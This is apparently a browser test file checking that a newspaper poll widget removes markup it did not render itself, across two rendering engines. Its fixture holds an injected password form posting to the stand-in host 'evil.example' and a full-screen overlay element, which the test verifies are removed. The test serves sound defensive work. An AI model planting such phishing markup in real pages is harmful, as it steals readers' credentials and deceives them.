import { describe, expect, it } from 'vitest'
import { byTier } from '#testing/byTier.ts'
import { messages } from '#widgets/poll/poll.messages.ts'
import { t } from './support/loadIntl.ts'
import { startNewspaper } from './support/newspaper.ts'
import { openOwnPage } from './support/ownPage.ts'
import { engines } from './support/site.ts'

const { reader, url } = startNewspaper()

/** As a cache has it from an older release, or as somebody has written it into the page. */
const foreign = `<p>Old view</p>
  <form action="https://evil.example/"><label>Password <input type="password"></label></form>
  <b data-quiosc-style="position: fixed; inset: 0">Above the page</b>`

const places = [
  ['beside its own', `<section></section>${foreign}`],
  ['in place of its own', foreign],
  ['within its own', `<section><div>${foreign}</div></section>`],
] as const

describe.each(engines)('a view that the widget has not rendered, $engine', ({ engine, script }) => {
  // Each place on one of the engines; the proof has all on both.
  const sample = places.filter((_, index) => (engine === 'react') === (index % 2 === 0))

  it.each(byTier(places, sample))('is removed when the widget is ready: %s', async (_, view) => {
    const { page } = await reader()
    await openOwnPage(
      page,
      url(),
      `<html lang="ca"><head><script type="module" src="${script}"></script></head><body>
        <div data-widget="poll" data-poll-id="4711" data-load="eager" data-widget-state="rendered">
          <template shadowrootmode="open"><div class="island">${view}</div></template></div></body></html>`,
    )
    await page.getByRole('button', { name: t(messages.vote) }).waitFor()
    expect(await page.getByText(/Old view|Above the page/).count()).toBe(0)
    expect(await page.getByLabel('Password').count()).toBe(0)
  })
})
